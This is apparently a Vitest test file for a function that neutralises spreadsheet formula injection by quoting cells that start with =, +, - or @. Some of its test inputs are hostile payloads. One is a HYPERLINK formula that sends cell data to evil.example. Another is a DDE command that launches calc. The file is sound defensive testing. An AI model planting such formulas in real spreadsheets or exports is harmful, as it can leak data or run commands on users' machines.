import { describe, expect, it } from 'vitest';
import { DANGEROUS_STARTS } from './fixtures';
import { isFormulaLike, sanitizeText } from './sanitize';

describe('sanitizeText', () => {
  it.each(DANGEROUS_STARTS)('quotes text starting with %j', (start) => {
    const text = `${start}HYPERLINK("https://evil.example/?"&A1,"Click")`;
    expect(isFormulaLike(text)).toBe(true);
    expect(sanitizeText(text)).toBe(`'${text}`);
  });

  it.each([' =1+1', '   +41 58 000 00 00', '\n-2', '\u00a0@SUM(A1)', '\u3000＝1', ' \r\n=cmd|"/C calc"!A0'])(
    'quotes %j: the trigger hides behind leading white space',
    (text) => {
      expect(sanitizeText(text)).toBe(`'${text}`);
    },
  );

  it.each([
    '',
    'A-Post Plus',
    'Päckli',
    '12.50',
    'a=b',
    'x+y',
    "'=already quoted",
    '#N/A',
    ' padded ',
    '(1)',
  ])('leaves %j alone', (text) => {
    expect(isFormulaLike(text)).toBe(false);
    expect(sanitizeText(text)).toBe(text);
  });

  it('is idempotent', () => {
    for (const start of DANGEROUS_STARTS) {
      const once = sanitizeText(`${start}1`);
      expect(sanitizeText(once)).toBe(once);
    }
  });
});
